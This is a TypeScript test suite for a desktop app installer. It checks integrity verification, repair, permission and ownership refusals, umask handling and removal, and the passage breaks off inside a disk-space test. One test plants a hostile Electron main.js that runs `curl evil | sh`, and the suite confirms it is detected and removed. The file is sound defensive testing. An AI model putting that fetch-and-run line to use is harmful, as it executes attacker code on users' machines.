import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, rmSync } from 'node:fs';
import { chmod, chown, lstat, mkdir, readdir, readFile, readlink, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { digestFile } from '../../../common/integrity.js';
import { acquireLock } from '../../../common/lock.js';
import { partialPath, sidecarPath } from '../../../installer/app/partial-file.js';
import { appPath, defaultRoot, installApp, removeApp, verifyApp } from '../../../installer/app/install.js';
import { buildAppArtifact, hostileArchives, rawTarGz, rawZip, writePadding } from '../../../rehearsal/app-fixtures.js';
import { startFaultServer, type FaultServer } from '../../../rehearsal/fault-server.js';
import { bundledCli, canMountTmpfs, type ManifestWith, manifestFor, tempDir, writeManifest } from './helpers.js';
import { asUser, canDropPrivileges, NOBODY } from '../../support/users.js';

let server: FaultServer;
let cli: string;
let mac: string;
let macV2: string;
let big: string;
let sandboxHome: string;

beforeAll(async () => {
  server = await startFaultServer();
  cli = await bundledCli();
  sandboxHome = await tempDir('home');
  const dir = await tempDir('artifacts');
  mac = (await buildAppArtifact('darwin', join(dir, 'v1', 'ao-desktop-darwin-arm64.zip'), 512 << 10)).file;
  macV2 = (await buildAppArtifact('darwin', join(dir, 'v2', 'ao-desktop-darwin-arm64.zip'), 768 << 10)).file;
  big = (await buildAppArtifact('linux', join(dir, 'big', 'ao-desktop-linux-x64.tar.gz'), 8 << 20)).file;
}, 120_000);
afterAll(() => server.close());

/** The macOS zip served at `path` as `version`, 16 MiB unpacked cap. */
function macManifest(artifact: string, version: string, path: string): Promise<ManifestWith<'darwin-arm64'>> {
  return manifestFor(server, artifact, 'zip', 'darwin-arm64', { unpackedSizeLimit: 16 << 20 }, { path, version });
}

interface Run {
  child: ChildProcess;
  stdout: string;
  stderr: string;
  done: Promise<number | null>;
}

/** `through`: a command that runs ao-app, as `prlimit --fsize=N`. */
function runCli(args: string[], env: Record<string, string> = {}, through: string[] = []): Run {
  const [command, ...prefix] = [...through, process.execPath];
  // A sandboxed HOME: an install for this machine's target writes ~/.ao/app-state.json.
  const child = spawn(command!, [...prefix, cli, ...args], {
    env: { ...process.env, HOME: sandboxHome, AO_RUN_FILE: '', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const run: Run = { child, stdout: '', stderr: '', done: new Promise((resolve) => child.on('close', (code) => resolve(code))) };
  child.stdout!.on('data', (d) => (run.stdout += d));
  child.stderr!.on('data', (d) => (run.stderr += d));
  return run;
}

async function until(check: () => Promise<boolean> | boolean, ms = 30_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe('installing the desktop app', () => {
  it('installs a macOS bundle side by side with links and exec bits, and verifies it', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-basic.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    expect(result.status).toBe('installed');
    expect(await appPath(root)).toBe(join(root, 'versions', '0.10.0-darwin-arm64'));
    expect(await readlink(join(root, 'current'))).toBe(join('versions', '0.10.0-darwin-arm64'));
    const app = join(result.path, 'Agent Orchestrator.app/Contents');
    expect(await readlink(join(app, 'Frameworks/X.framework/Versions/Current'))).toBe('A');
    expect((await stat(join(app, 'MacOS/ao'))).mode & 0o111).not.toBe(0);
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true });
    expect(existsSync(join(root, 'downloads', 'ao-desktop-darwin-arm64.zip.partial'))).toBe(false);
    // A second run changes nothing and downloads nothing.
    const before = server.bytesSent('/mac-basic.zip');
    expect((await installApp({ manifest, target: 'darwin-arm64', root })).status).toBe('already-installed');
    expect(server.bytesSent('/mac-basic.zip')).toBe(before);
  });

  it.runIf(process.platform !== 'win32')(
    'reads a `current` link rewritten with an absolute target (ln -sfn "$PWD/versions/..." current) as the app it names',
    async () => {
      const root = await tempDir('root');
      const manifest = await macManifest(mac, '0.10.0', '/mac-absolute-current.zip');
      const { path } = await installApp({ manifest, target: 'darwin-arm64', root });
      await rm(join(root, 'current'));
      await symlink(path, join(root, 'current'));
      // Joined to the app folder, the absolute target named <root>/<root>/versions/...: `where` said "not installed" and
      // verify "has no completion marker", about an app that was intact.
      expect(await appPath(root)).toBe(path);
      expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, path });
    },
  );

  // Whoever can write the app folder can plant a version with a completion marker of their own (its digests are what
  // they wrote), or rewrite a file later; verify had called such an app intact, since it checked files against that marker.
  it('verify refuses an app others can write: a folder it lives in (EAPPOWNER), or a file of it (damaged, and install repairs it)', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-writable.zip');
    const { path } = await installApp({ manifest, target: 'darwin-arm64', root });
    for (const folder of [root, join(root, 'versions'), path]) {
      await chmod(folder, 0o777);
      await expect(verifyApp({ manifest, target: 'darwin-arm64', root }), folder).rejects.toMatchObject({
        code: 'EAPPOWNER',
        why: expect.stringContaining(`${folder} can be written by any user`),
      });
      await chmod(folder, 0o755);
    }
    const plist = join(path, 'Agent Orchestrator.app/Contents/Info.plist');
    await chmod(plist, 0o664);
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
      ok: false,
      path,
      problems: ['Agent Orchestrator.app/Contents/Info.plist can be written by other users (mode 664)'],
    });
    expect((await installApp({ manifest, target: 'darwin-arm64', root })).status).toBe('installed');
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, path });
    if (process.getuid?.() === 0) {
      // Root verifying a user's own app (sudo keeping HOME) only reads it: refused as "another user's", it was told to chown
      // the user's app folder to root.
      execFileSync('chown', ['-R', '65534:65534', root]);
      expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, path });
      // But a folder in it a third user made is still refused.
      await chown(join(root, 'versions'), 65533, 65533);
      await expect(verifyApp({ manifest, target: 'darwin-arm64', root })).rejects.toMatchObject({
        code: 'EAPPOWNER',
        why: expect.stringContaining(`${join(root, 'versions')} belongs to another user (uid 65533)`),
      });
    }
  });

  it('verify re-hashes every installed file and names the one that changed, even at the same size', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    const plist = join(result.path, 'Agent Orchestrator.app/Contents/Info.plist');
    const text = await readFile(plist, 'utf8');
    await writeFile(plist, text.replace('<string>ao</string>', '<string>xx</string>'));
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
      ok: false,
      path: result.path,
      problems: ['Agent Orchestrator.app/Contents/Info.plist differs from the file installed (sha256 mismatch)'],
    });

    const image = join(await tempDir('img'), 'agent-orchestrator-linux-x64.AppImage');
    await writeFile(image, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const imageRoot = await tempDir('root');
    const m = await manifestFor(server, image, 'AppImage', 'linux-x64');
    const installed = await installApp({ manifest: m, target: 'linux-x64', root: imageRoot });
    await writeFile(join(installed.path, 'agent-orchestrator-linux-x64.AppImage'), '#!/bin/sh\nexit 1\n');
    expect((await verifyApp({ manifest: m, target: 'linux-x64', root: imageRoot })).problems).toEqual([
      'agent-orchestrator-linux-x64.AppImage differs from the file installed (sha512 mismatch)',
    ]);
  });

  // Electron loads `Resources/app/` before `app.asar` (its search order is app, app.asar, default_app.asar): a folder added
  // there replaces the whole app's code without changing one installed file. verify had called such an app intact, and
  // install "already installed".
  it('verify names a file or folder added to the installed app, and install puts the release back without it', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-added.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    const resources = join(result.path, 'Agent Orchestrator.app/Contents/Resources');
    await mkdir(join(resources, 'app'));
    await writeFile(join(resources, 'app', 'package.json'), '{"main":"main.js"}');
    await writeFile(join(resources, 'app', 'main.js'), 'require("child_process").exec("curl evil | sh")');
    // What Finder writes into a folder someone looked at ("Show Package Contents") is no change to the app.
    await writeFile(join(resources, '.DS_Store'), 'finder view settings');
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
      ok: false,
      path: result.path,
      problems: ['Agent Orchestrator.app/Contents/Resources/app is not part of the release (added after it was installed)'],
    });
    const again = await installApp({ manifest, target: 'darwin-arm64', root });
    expect(again).toMatchObject({ status: 'installed', path: result.path });
    expect(existsSync(join(resources, 'app'))).toBe(false);
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, problems: [] });
  });

  // Names are compared as stored except on macOS, whose file systems fold NFC and NFD into one name (HFS+ stores NFD). On
  // ext4, where they are two names, an NFD twin added beside a release file had been taken for that file.
  it.skipIf(process.platform === 'darwin')('verify names a file added beside a release file under the same name spelled in NFD', async () => {
    const artifact = join(await tempDir('nfd'), 'nfd.tar.gz');
    await writeFile(
      artifact,
      rawTarGz([
        { path: 'ao-desktop/ao-desktop', data: '#!/bin/sh\n', mode: 0o755 },
        { path: 'ao-desktop/caf\u00e9', data: 'release' },
      ]),
    );
    const root = await tempDir('root');
    const manifest = await manifestFor(server, artifact, 'tar.gz', 'linux-x64', {}, { path: '/nfd-twin.tar.gz' });
    const result = await installApp({ manifest, target: 'linux-x64', root });
    await writeFile(join(result.path, 'ao-desktop', 'cafe\u0301'), 'added');
    expect(await verifyApp({ manifest, target: 'linux-x64', root })).toEqual({
      ok: false,
      path: result.path,
      problems: ['ao-desktop/cafe\u0301 is not part of the release (added after it was installed)'],
    });
  });

  // Its files copied elsewhere and a link left in its place: each file still hashed as installed (read through the link),
  // and what was added there (Resources/app/, which Electron runs first) was never looked at.
  it('verify names a folder of the app replaced by a link to another folder', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-linked.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    const resources = join(result.path, 'Agent Orchestrator.app/Contents/Resources');
    const elsewhere = join(await tempDir('elsewhere'), 'Resources');
    execFileSync('cp', ['-a', resources, elsewhere]);
    await mkdir(join(elsewhere, 'app'));
    await writeFile(join(elsewhere, 'app', 'package.json'), '{"main":"main.js"}');
    await rm(resources, { recursive: true });
    await symlink(elsewhere, resources);
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
      ok: false,
      path: result.path,
      problems: ['Agent Orchestrator.app/Contents/Resources is no longer a folder'],
    });
  });

  it('install repairs an installed app whose files were deleted or changed, instead of saying it is already installed (exit 0 over a broken app)', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-repair.zip');
    const first = await installApp({ manifest, target: 'darwin-arm64', root });
    expect(await installApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ status: 'already-installed', fetched: 0 });
    // What an antivirus quarantine or a disk error leaves: one file gone, one changed at the same size.
    await rm(join(first.path, 'Agent Orchestrator.app/Contents/MacOS/ao'));
    const plist = join(first.path, 'Agent Orchestrator.app/Contents/Info.plist');
    await writeFile(plist, (await readFile(plist, 'utf8')).replace('<string>ao</string>', '<string>xx</string>'));
    const again = await installApp({ manifest, target: 'darwin-arm64', root });
    expect(again).toMatchObject({ status: 'installed', path: first.path, fetched: manifest.targets['darwin-arm64'].size });
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true });
  });

  it('verify re-hashes a hardlinked file like any file and names it when it is replaced', async () => {
    const dir = await tempDir('hardlink');
    const artifact = join(dir, 'ao-desktop-linux-x64.tar.gz');
    await writeFile(
      artifact,
      rawTarGz([
        { path: 'app/a', data: 'AAAA' },
        { path: './app/b', type: 'Link', linkpath: './app/a' },
      ]),
    );
    const root = await tempDir('root');
    const manifest = await manifestFor(server, artifact, 'tar.gz', 'linux-x64', {}, { path: '/hardlink.tar.gz' });
    const result = await installApp({ manifest, target: 'linux-x64', root });
    expect(await verifyApp({ manifest, target: 'linux-x64', root })).toMatchObject({ ok: true, problems: [] });
    // Replaced by another file of the same size: the link is broken, app/a is untouched.
    await rm(join(result.path, 'app/b'));
    await writeFile(join(result.path, 'app/b'), 'evil');
    expect(await verifyApp({ manifest, target: 'linux-x64', root })).toEqual({
      ok: false,
      path: result.path,
      problems: ['app/b differs from the file installed (sha256 mismatch)'],
    });
  });

  it('verify still reads an install recorded with sha512 per file (by an ao-app before sha256), and names a change in it', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-sha512.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    const markerFile = join(result.path, '.ao-app-complete.json');
    const marker = JSON.parse(await readFile(markerFile, 'utf8')) as { entries: Array<{ path: string; type: string; integrity?: string }> };
    for (const e of marker.entries) {
      if (e.type === 'file') e.integrity = (await digestFile(join(result.path, e.path), 'sha512')).integrity;
    }
    await writeFile(markerFile, JSON.stringify(marker));
    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, problems: [] });
    const plist = join(result.path, 'Agent Orchestrator.app/Contents/Info.plist');
    await writeFile(plist, (await readFile(plist, 'utf8')).replace('<string>ao</string>', '<string>xx</string>'));
    expect((await verifyApp({ manifest, target: 'darwin-arm64', root })).problems).toEqual([
      'Agent Orchestrator.app/Contents/Info.plist differs from the file installed (sha512 mismatch)',
    ]);
  });

  it('verify waits for a remove in progress instead of reporting the half-removed app as damaged', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-remove.zip');
    const result = await installApp({ manifest, target: 'darwin-arm64', root });
    // A remove holding the installer's lock, half-way through deleting the version folder.
    const removing = await acquireLock(join(root, '.lock'), { purpose: 'the desktop app installer' });
    await rm(join(result.path, 'Agent Orchestrator.app/Contents/Info.plist'));
    await expect(verifyApp({ manifest, target: 'darwin-arm64', root, lockWaitMs: 0 })).rejects.toMatchObject({
      code: 'ELOCKED',
      what: 'the desktop app installer is already running',
    });
    const verified = verifyApp({ manifest, target: 'darwin-arm64', root });
    await rm(join(root, 'current'));
    await rm(join(root, 'versions'), { recursive: true });
    await removing.release();
    expect(await verified).toEqual({ ok: false, problems: ['the desktop app is not installed'] });
  });

  it('an install that waited for a remove in progress installs once the remove has deleted the folders it had made', async () => {
    const root = await tempDir('root');
    const old = await macManifest(mac, '0.9.0', '/mac-install-after-remove-old.zip');
    await installApp({ manifest: old, target: 'darwin-arm64', root });
    // A remove holding the installer's lock: by its end it deletes the app, then versions/ and downloads/ once empty.
    const removing = await acquireLock(join(root, '.lock'), { purpose: 'the desktop app installer' });
    let waited!: () => void;
    const waiting = new Promise<void>((resolve) => (waited = resolve));
    const progress = { start() {}, advance() {}, finish() {}, fail() {}, waiting: () => waited() };
    const manifest = await macManifest(macV2, '0.10.0', '/mac-install-after-remove.zip');
    const installing = installApp({ manifest, target: 'darwin-arm64', root, progress });
    await waiting;
    for (const made of ['current', 'versions', 'downloads']) await rm(join(root, made), { recursive: true });
    await removing.release();
    // It had failed, exit 1: "cannot install the desktop app into <root>: ENOENT ... versions/..exec-probe".
    expect((await installing).status).toBe('installed');
    expect(await appPath(root)).toBe(join(root, 'versions', '0.10.0-darwin-arm64'));
  });

  it('installs nothing from wrong bytes and discards them', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-wrong.zip');
    server.fault('/mac-wrong.zip', { kind: 'wrong-bytes' });
    await expect(installApp({ manifest, target: 'darwin-arm64', root })).rejects.toMatchObject({ code: 'EINTEGRITY' });
    expect(await readdir(join(root, 'versions'))).toEqual([]);
    expect(await readdir(join(root, 'downloads'))).toEqual([]);
    expect(await appPath(root)).toBeUndefined();
  });

  it('refuses a hostile artifact that matches its pin, keeping the installed version and cleaning staging', async () => {
    const root = await tempDir('root');
    await installApp({ manifest: await macManifest(mac, '0.9.0', '/mac-before-hostile.zip'), target: 'darwin-arm64', root });
    const dir = await tempDir('hostile');
    for (const hostile of hostileArchives().filter((h) => h.format === 'zip')) {
      const file = join(dir, 'ao-desktop-darwin-arm64.zip');
      await writeFile(file, hostile.bytes);
      const manifest = await macManifest(file, '0.10.0', `/hostile-${hostile.name.replace(/\W+/g, '-')}.zip`);
      manifest.targets['darwin-arm64'].unpackedSizeLimit = hostile.unpackedSizeLimit;
      await expect(installApp({ manifest, target: 'darwin-arm64', root }), hostile.name).rejects.toMatchObject({ code: 'EUNSAFEARCHIVE' });
      expect(await readdir(join(root, 'versions')), hostile.name).toEqual(['0.9.0-darwin-arm64']);
      expect(await readdir(join(root, 'downloads')), hostile.name).toEqual([]);
      expect(await readdir(root), hostile.name).toEqual(expect.arrayContaining(['current', 'downloads', 'versions']));
      expect((await readdir(root)).length).toBe(3);
    }
    expect(await appPath(root)).toBe(join(root, 'versions', '0.9.0-darwin-arm64'));
  });

  it('refuses a macOS zip with no .app at its top (ao start could open nothing), keeping the installed version', async () => {
    const root = await tempDir('root');
    await installApp({ manifest: await macManifest(mac, '0.9.0', '/mac-before-nested.zip'), target: 'darwin-arm64', root });
    // The bundle zipped one folder too deep, as a packaging step that zips its output folder does.
    const file = join(await tempDir('nested'), 'ao-desktop-darwin-arm64.zip');
    await writeFile(
      file,
      rawZip([
        { name: 'mac-arm64/Agent Orchestrator.app/Contents/Info.plist', data: '<plist/>' },
        { name: 'mac-arm64/Agent Orchestrator.app/Contents/MacOS/ao', data: '#!/bin/sh\n', mode: 0o100755 },
      ]),
    );
    const manifest = await macManifest(file, '0.10.0', '/mac-nested.zip');
    // It installed with exit 0 and no app for ao start, which then fetched its own, unverified.
    await expect(installApp({ manifest, target: 'darwin-arm64', root, stateDir: await tempDir('state') })).rejects.toMatchObject({
      code: 'EUNSAFEARCHIVE',
      why: expect.stringMatching(/no \.app bundle at its top/),
    });
    expect(await readdir(join(root, 'versions'))).toEqual(['0.9.0-darwin-arm64']);
    expect(await readdir(join(root, 'downloads'))).toEqual([]);
  });

  // `--dir /tmp/ao-app` on a shared machine: whoever else can write the folder can plant a version folder with a marker of
  // their own (self-attesting: its digests are what they wrote), which install took for "already installed" and ao start
  // then opened. A folder any user can write (sticky ones like /tmp aside), or another user's, is refused before anything.
  it('refuses an app folder other users can write, or one of its folders another user made, before downloading', async () => {
    const manifest = await macManifest(mac, '0.10.0', '/mac-shared.zip');
    const open = await tempDir('shared');
    await chmod(open, 0o777);
    await expect(installApp({ manifest, target: 'darwin-arm64', root: open })).rejects.toMatchObject({
      code: 'EAPPOWNER',
      why: expect.stringContaining(`${open} can be written by any user`),
    });
    if (process.getuid?.() === 0) {
      const sticky = await tempDir('sticky');
      await chmod(sticky, 0o1777);
      await mkdir(join(sticky, 'versions'));
      await chown(join(sticky, 'versions'), 65534, 65534);
      await expect(installApp({ manifest, target: 'darwin-arm64', root: sticky })).rejects.toMatchObject({
        code: 'EAPPOWNER',
        why: expect.stringContaining(`${join(sticky, 'versions')} belongs to another user (uid 65534)`),
      });
    }
    expect(server.requests.filter((r) => r.path === '/mac-shared.zip')).toHaveLength(0);
    // A sticky folder anyone may add to (like /tmp) is fine when what ao-app keeps in it is its own.
    const tmpLike = await tempDir('tmp-like');
    await chmod(tmpLike, 0o1777);
    expect((await installApp({ manifest, target: 'darwin-arm64', root: tmpLike })).status).toBe('installed');
  });

  // The download is checked by the sha512 computed as its bytes were written, then unpacked (or, an AppImage, linked in as
  // the app) from the file on disk: under a umask of 000 that file was 0666, and any user could change its bytes after the
  // check, installing what they wrote, as verified. A partial another user could write, left by such a run, was resumed.
  it.runIf(canDropPrivileges)('keeps the download and the lock owner-only whatever the umask, and does not resume a partial others could write', async () => {
    const base = await tempDir('umask');
    await chmod(base, 0o755);
    const root = join(base, 'app');
    const manifest = await macManifest(mac, '0.10.0', '/mac-umask.zip');
    const file = await writeManifest(await tempDir('m'), manifest);
    const partial = partialPath(join(root, 'downloads', 'ao-desktop-darwin-arm64.zip'));
    await mkdir(join(root, 'downloads'), { recursive: true });
    await writeFile(partial, (await readFile(mac)).subarray(0, 100_000), { mode: 0o666 });
    await chmod(partial, 0o666);
    const { urls, size, integrity } = manifest.targets['darwin-arm64'];
    await writeFile(sidecarPath(join(root, 'downloads', 'ao-desktop-darwin-arm64.zip')), JSON.stringify({ url: urls[0], size, integrity }), { mode: 0o600 });
    const args = ['install', '--quiet', '--manifest', file, '--target', 'darwin-arm64', '--dir', root];
    const parked = runCli(args, { AO_APP_CHECKPOINT: 'downloaded' }, ['sh', '-c', 'umask 000; exec "$@"', 'sh']);
    try {
      await until(() => parked.stderr.includes('parked at downloaded'));
      // Downloaded whole: the bytes another user could have written were not kept.
      expect(server.requests.filter((r) => r.path === '/mac-umask.zip').map((r) => r.range)).toEqual([undefined]);
      // Between the check and the unpack, another user cannot change the verified bytes.
      const verified = await readFile(partial);
      const other = spawnSync(...asUser(NOBODY, ['sh', '-c', `printf X | dd of="${partial}" conv=notrunc`]), { encoding: 'utf8' });
      expect([other.status, other.stderr]).toEqual([1, expect.stringContaining('Permission denied')]);
      expect((await readFile(partial)).equals(verified)).toBe(true);
      // Nor write a live pid into the lock, which the next run would wait on for 15 minutes.
      const lock = spawnSync(...asUser(NOBODY, ['sh', '-c', `printf '{"pid":1}' > "${join(root, '.lock')}"`]), { encoding: 'utf8' });
      expect([lock.status, lock.stderr]).toEqual([2, expect.stringContaining('Permission denied')]);
    } finally {
      parked.child.kill('SIGKILL');
      await parked.done;
    }
  });

  // A zip records each entry's mode, and the unpack set it exactly (fchmod, past the umask): an entry zipped as 0777 or
  // 0666 (a release built under umask 000, an old WSL default) became a file any user on the machine could rewrite,
  // the app's executable among them, which ao start then ran and verify still called intact.
  it('installs no file or folder that others may write, whatever mode the archive records', async () => {
    const file = join(await tempDir('modes'), 'ao-desktop-darwin-arm64.zip');
    await writeFile(
      file,
      rawZip([
        { name: 'Agent Orchestrator.app/Contents/Info.plist', data: '<plist/>', mode: 0o100666 },
        { name: 'Agent Orchestrator.app/Contents/MacOS/ao', data: '#!/bin/sh\n', mode: 0o100777 },
      ]),
    );
    const root = await tempDir('modes-root');
    const { path } = await installApp({ manifest: await macManifest(file, '0.10.0', '/mac-modes.zip'), target: 'darwin-arm64', root });
    const app = join(path, 'Agent Orchestrator.app', 'Contents');
    expect((await stat(join(app, 'MacOS', 'ao'))).mode & 0o777).toBe(0o755);
    expect((await stat(join(app, 'Info.plist'))).mode & 0o777).toBe(0o644);
    const tarRoot = await tempDir('modes-tar');
    const tar = join(await tempDir('modes-tgz'), 'agent-orchestrator-linux-x64.tar.gz');
    await writeFile(
      tar,
      rawTarGz([
        { path: 'ao-desktop/', type: 'Directory', mode: 0o777 },
        { path: 'ao-desktop/ao-desktop', data: '#!/bin/sh\n', mode: 0o777 },
      ]),
    );
    const tarInstall = runCli(
      [
        'install',
        '--quiet',
        '--manifest',
        await writeManifest(await tempDir('m'), await manifestFor(server, tar, 'tar.gz')),
        '--target',
        'linux-x64',
        '--dir',
        tarRoot,
      ],
      {},
      ['sh', '-c', 'umask 000 && exec "$@"', 'sh'],
    );
    expect(await tarInstall.done, tarInstall.stderr).toBe(0);
    const unpacked = join(tarRoot, 'current', 'ao-desktop');
    expect((await stat(unpacked)).mode & 0o777).toBe(0o755);
    expect((await stat(join(unpacked, 'ao-desktop'))).mode & 0o777).toBe(0o755);
  });

  // A second install of this machine's app (--dir elsewhere) points ao start at itself; removing it cleared the pointer
  // though the install in the default folder was still there, and ao start then downloads its own, unverified copy.
  it('removing a second install points ao start back at the one in the default folder', async () => {
    const home = await tempDir('two-installs');
    const image = join(await tempDir('two-img'), 'agent-orchestrator-linux-x64.AppImage');
    await buildAppArtifact('appimage', image, 64 << 10);
    const manifest = await writeManifest(await tempDir('m'), await manifestFor(server, image, 'AppImage', 'linux-x64', {}, { path: '/two-installs.AppImage' }));
    const base = ['--quiet', '--manifest', manifest, '--target', 'linux-x64'];
    const other = join(home, 'elsewhere');
    for (const args of [
      ['install', ...base],
      ['install', ...base, '--dir', other],
      ['remove', '--quiet', '--dir', other],
    ]) {
      const run = runCli(args, { HOME: home });
      expect(await run.done, `${args.join(' ')}: ${run.stderr}`).toBe(0);
    }
    expect(JSON.parse(await readFile(join(home, '.ao', 'app-state.json'), 'utf8'))).toMatchObject({
      appPath: join(home, '.ao', 'app', 'versions', '0.10.0-linux-x64', 'agent-orchestrator-linux-x64.AppImage'),
      version: '0.10.0',
    });
  });

  // Whether ao start can be pointed back at a default install is asked of AO_APP_DIR, which a remove --dir never needs:
  // one set to an address (or bytes that are not UTF-8) had ended the remove after ao start's pointer was cleared and
  // before anything was deleted, exit 1, the verified app left where ao start no longer looked.
  // cmd.exe has no export and no ~: `export AO_APP_DIR=~/ao-app` was "'export' is not recognized" there.
  it('an AO_APP_DIR that is a web address gets a fix in the shell of the platform: export and ~, or set and %USERPROFILE%', () => {
    const fixFor = (platform: string) => {
      try {
        defaultRoot({ HOME: '/home/ann', USERPROFILE: 'C:\\Users\\Ann', AO_APP_DIR: 'https://example.com/app' }, platform);
      } catch (err) {
        return (err as { fix: string }).fix;
      }
      throw new Error('AO_APP_DIR=https://example.com/app was taken');
    };
    expect(fixFor('linux')).toBe('set AO_APP_DIR to a folder on this machine (like export AO_APP_DIR=~/ao-app), or clear it (unset AO_APP_DIR) for ~/.ao/app');
    expect(fixFor('win32')).toBe(
      'set AO_APP_DIR to a folder on this machine (like set "AO_APP_DIR=%USERPROFILE%\\ao-app"), or clear it (set "AO_APP_DIR=") for %USERPROFILE%\\.ao\\app',
    );
  });

  it('removes a --dir install whatever AO_APP_DIR holds', async () => {
    const home = await tempDir('dir-remove');
    const image = join(await tempDir('dir-remove-img'), 'agent-orchestrator-linux-x64.AppImage');
    await buildAppArtifact('appimage', image, 64 << 10);
    const manifest = await writeManifest(await tempDir('m'), await manifestFor(server, image, 'AppImage', 'linux-x64', {}, { path: '/dir-remove.AppImage' }));
    const other = join(home, 'elsewhere');
    const install = runCli(['install', '--quiet', '--manifest', manifest, '--target', 'linux-x64', '--dir', other], { HOME: home });
    expect(await install.done, install.stderr).toBe(0);
    const remove = runCli(['remove', '--quiet', '--dir', other], { HOME: home, AO_APP_DIR: 'https://example.com/app' });
    expect(await remove.done, remove.stderr).toBe(0);
    expect(existsSync(join(other, 'versions'))).toBe(false);
    expect(existsSync(join(home, '.ao', 'app-state.json'))).toBe(false);
  });

  // `--dir` naming the default folder through a link: the remove held that folder's lock and then waited 5 s, saying
  // nothing, for that same lock, to point ao start back at the app it was removing. Such a wait is now said on stderr.
  it('removes the default install named through a link to it at once, its marker cleared', async () => {
    const home = await tempDir('linked-default');
    const image = join(await tempDir('linked-img'), 'agent-orchestrator-linux-x64.AppImage');
    await buildAppArtifact('appimage', image, 64 << 10);
    const manifest = await writeManifest(
      await tempDir('m'),
      await manifestFor(server, image, 'AppImage', 'linux-x64', {}, { path: '/linked-default.AppImage' }),
    );
    const install = runCli(['install', '--quiet', '--manifest', manifest, '--target', 'linux-x64'], { HOME: home });
    expect(await install.done, install.stderr).toBe(0);
    const link = join(home, 'ao-app-link');
    await symlink(join(home, '.ao', 'app'), link);
    // Not --quiet: a wait for a lock is said on stderr, so the wait is seen without timing it on a busy machine.
    const remove = runCli(['remove', '--dir', link], { HOME: home });
    expect(await remove.done, remove.stderr).toBe(0);
    expect(remove.stderr).not.toMatch(/waiting for/);
    expect(existsSync(join(home, '.ao', 'app-state.json'))).toBe(false);
  });

  it('under umask 000 (an old WSL default) makes its own folders private, and installs again into them', async () => {
    const manifest = await macManifest(mac, '0.10.0', '/mac-umask.zip');
    const root = join(await tempDir('umask'), 'app');
    const args = ['install', '--quiet', '--manifest', await writeManifest(await tempDir('m'), manifest), '--target', 'darwin-arm64', '--dir', root];
    const umask0 = ['sh', '-c', 'umask 000 && exec "$@"', 'sh'];
    for (let run = 0; run < 2; run++) {
      const install = runCli(args, {}, umask0);
      expect(await install.done, install.stderr).toBe(0);
    }
    for (const folder of [root, join(root, 'versions'), join(root, 'downloads')]) expect((await stat(folder)).mode & 0o777).toBe(0o755);
    // The version's own folder too: made 0777 there, verify refused the app as one others can write (EAPPOWNER).
    const verify = runCli(['verify', ...args.slice(1)], {}, umask0);
    expect(await verify.done, verify.stderr).toBe(0);
  });

  it('refuses before downloading when the disk is too small', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-nospace.zip');
    await expect(installApp({ manifest, target: 'darwin-arm64', root, freeSpace: async () => 100_000 })).rejects.toMatchObject({
      code: 'ENOSPC',
      message: expect.stringMatching(/100000 bytes free/),
    });
    expect(server.requests.filter((r) => r.path === '/mac-nospace.zip')).toHaveLength(0);
  });

  it.skipIf(!canMountTmpfs())('refuses before downloading on a real, too small disk (a 2 MB tmpfs)', async () => {
    const root = await tempDir('tmpfs');
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=2m', 'tmpfs', root]);
    try {
      const manifest = await manifestFor(server, big, 'tar.gz');
      await expect(installApp({ manifest, target: 'linux-x64', root: join(root, 'app') })).rejects.toMatchObject({ code: 'ENOSPC' });
      expect(server.requests.filter((r) => r.path === `/${manifest.targets['linux-x64'].file}`)).toHaveLength(0);
    } finally {
      execFileSync('umount', [root]);
    }
  });

  // The Linux app is one AppImage: the verified download is the app. Copied into the version folder, it had needed its
  // size twice on the disk (download, then copy), and the check before downloading asked for both.
  it.skipIf(!canMountTmpfs())('installs an AppImage on a disk that holds it once and a half, not twice: the verified download becomes the app', async () => {
    const disk = await tempDir('appimage-disk');
    const image = join(await tempDir('img'), 'agent-orchestrator-linux-x64.AppImage');
    await buildAppArtifact('appimage', image, 6 << 20);
